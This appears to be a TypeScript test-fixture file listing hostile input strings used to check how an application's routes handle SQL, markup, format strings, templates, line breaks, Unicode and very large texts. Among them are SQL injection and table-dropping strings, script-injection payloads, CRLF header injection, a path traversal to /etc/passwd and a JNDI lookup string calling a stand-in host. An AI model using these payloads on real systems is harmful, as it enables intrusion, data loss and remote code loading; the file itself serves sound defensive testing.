// Texts that faulty software misinterprets: SQL, markup, line breaks, format strings, templates, Unicode, and large
// texts.
import { hash } from 'node:crypto';

/** Short texts that can be stored. Most routes get only SELECTED_HOSTILE_TEXTS. */
export const HOSTILE_TEXTS: readonly string[] = [
  `' or '1'='1`,
  `'; drop table auth.users; --`,
  `$$; select pg_sleep(5); $$`,
  '$1 $2 :name %s %n %d %1$s {0}',
  '\\',
  `\\'; select 1; --`,
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>&amp;&#39;',
  `{{ .Token }}{{ .ConfirmationURL }}\${7*7}<%= 1 %>`,
  'a\r\nSet-Cookie: session=1\r\n\r\n<html>',
  'a\r\n.\r\nRCPT TO:<x@y.z>\r\n',
  '\u001b[31mred\u0007\u0008\u007f',
  'line\u2028separator\u2029paragraph\u0085next',
  '\u202etxt.exe\u202c\u200b\u200d\ufeff',
  'e\u0301'.repeat(50),
  'Z\u0351\u036b\u0343'.repeat(40),
  'İıſßẞŒÆﬃ',
  '\ufffd\uffff\u{10ffff}',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'null',
  'true',
  '-0',
  '1e309',
  '9'.repeat(400),
  '../../../../etc/passwd',
  'javascript:alert(1)',
  `\${jndi:ldap://evil.test/a}`,
  ' ',
  '\t\n',
  '00000000-0000-0000-0000-000000000000',
  `{"refused":{"status":200}}`,
];

/**
 * One text of each kind: a statement, an escape, a format string, markup, a template, a line break, a control
 * character, a character outside the basic multilingual plane, a number, a path, JSON, a space, an id.
 */
export const SELECTED_HOSTILE_TEXTS: readonly string[] = [
  `'; drop table auth.users; --`,
  '\\',
  '$1 $2 :name %s %n %d %1$s {0}',
  '"><script>alert(1)</script>',
  `{{ .Token }}{{ .ConfirmationURL }}\${7*7}<%= 1 %>`,
  'a\r\nSet-Cookie: session=1\r\n\r\n<html>',
  '\u001b[31mred\u0007\u0008\u007f',
  '\ufffd\uffff\u{10ffff}',
  '1e309',
  '../../../../etc/passwd',
  `{"refused":{"status":200}}`,
  ' ',
  '00000000-0000-0000-0000-000000000000',
];

export const LARGE_TEXTS: readonly string[] = [
  'x'.repeat(10_000),
  '𝕏é漢'.repeat(3_000),
  `${'a'.repeat(100_000)}@example.com`,
  // Incompressible text. It exceeds the size limit of an index entry, which longer compressible texts do not exceed.
  Array.from({ length: 200 }, (_, n) => hash('sha256', String(n), 'base64')).join(''),
];
